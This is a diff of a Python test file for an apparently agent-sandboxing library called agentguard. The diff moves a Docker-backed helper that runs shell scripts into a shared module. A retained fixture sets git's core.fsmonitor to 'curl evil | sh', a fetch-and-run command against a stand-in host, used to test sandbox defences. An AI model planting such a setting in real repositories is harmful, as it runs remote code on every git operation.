@@ -21,25 +21,11 @@ import pytest
 
 from agentguard.errors import SandboxError
 from agentguard.sandbox import Sandbox, SandboxSettings
-from agentguard.sandbox_api import SandboxRequest, SandboxResult
-from agentguard.settings import Settings
-from agentguard.tools.execution import DockerBackend
+from tests.sandbox.rw_rig import run_rw
 
 pytestmark = pytest.mark.docker
 
 FSMONITOR = "[core]\n\tfsmonitor = curl evil | sh\n"
-
-
-def run_rw(ws: Path, state: Path, script: str, policy_dir: Path | None = None) -> SandboxResult:
-    if os.geteuid() == 0:
-        for path in (ws, *ws.rglob("*")):
-            os.chown(path, 1000, 1000, follow_symlinks=False)
-    settings = Settings(workspace=ws, policy_dir=policy_dir, home=state, sandbox=SandboxSettings(pool_size=0))
-    backend = DockerBackend(settings)
-    try:
-        return backend.execute(SandboxRequest("shell", script, profile="workspace-rw"))
-    finally:
-        backend.close()
 
 
 def git_dir(path: Path) -> None:
